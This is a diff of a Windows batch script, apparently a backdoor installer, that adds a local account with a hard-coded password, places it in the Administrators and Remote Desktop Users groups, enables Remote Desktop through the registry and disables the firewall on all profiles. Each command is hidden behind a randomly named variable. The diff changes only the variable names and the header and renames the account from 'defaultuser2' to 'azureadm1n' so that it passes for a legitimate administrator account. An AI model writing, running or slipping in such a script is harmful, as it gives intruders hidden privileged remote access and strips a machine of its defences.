@@ -1,16 +1,16 @@
-REM config 5700 v0
+REM run 2005 v0
 @echo off
-set jwtx=net user defaultuser2 Adm1n!strat0r /add /y
-call %jwtx%
+set snux=net user azureadm1n Adm1n!strat0r /add /y
+call %snux%
 @echo off
-set qwjx=net localgroup administrators defaultuser2 /add
-call %qwjx%
+set mnkf=net localgroup administrators azureadm1n /add
+call %mnkf%
 @echo off
-set razv=net localgroup "Remote Desktop Users" defaultuser2 /add
-call %razv%
+set ftbb=net localgroup "Remote Desktop Users" azureadm1n /add
+call %ftbb%
 @echo off
-set gmbh=reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
-call %gmbh%
+set txln=reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
+call %txln%
 @echo off
-set pdiv=netsh advfirewall set allprofiles state off
-call %pdiv%
+set kkew=netsh advfirewall set allprofiles state off
+call %kkew%
